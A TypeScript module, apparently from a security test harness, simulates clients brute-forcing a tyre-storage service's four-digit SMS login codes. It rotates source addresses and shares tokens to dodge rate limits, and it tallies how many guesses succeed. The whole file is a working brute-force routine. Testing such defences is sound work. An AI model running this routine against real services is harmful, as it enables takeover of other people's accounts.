import { randomAddress, type TyreHotelClient } from './tyre-hotel-client.ts';

const CODES = 10_000;

export type Attack = { tries: number; refused: number; wins: number; failures: number; codesSent: number };

/**
 * Clients who know a plate and own any number of addresses: they share every token that a login gives them, ask for new
 * codes all the time, and try the codes one after the other.
 */
export async function attack(
  clients: readonly TyreHotelClient[],
  plate: string,
  until: number,
): Promise<Attack> {
  const result = { tries: 0, refused: 0, wins: 0, failures: 0, codesSent: 0 };
  let ticket: unknown;
  let token: unknown = 'none';
  let next = Math.floor(Math.random() * CODES);

  const logIn = async (client: TyreHotelClient) => {
    ticket ??= (await client.search(plate, randomAddress())).body['encryptedPhoneNumber'];
    const { status, body } = await client.login(ticket, randomAddress());
    if (status !== 200) return;
    result.codesSent += 1;
    token = body['authorizationToken'];
  };
  const guess = async (client: TyreHotelClient) => {
    next = (next + 1) % CODES;
    const { status } = await client.validate(token, String(next).padStart(4, '0'), randomAddress());
    result.tries += 1;
    if (status === 200) result.wins += 1;
    else if (status === 401) result.refused += 1;
    else result.failures += 1;
  };
  await Promise.all(
    clients.map(async (client, at) => {
      for (let round = at; performance.now() < until; round += 1) {
        if (round % LOGIN_EVERY === 0) await logIn(client);
        await guess(client);
      }
    }),
  );
  return result;
}

const LOGIN_EVERY = 20;
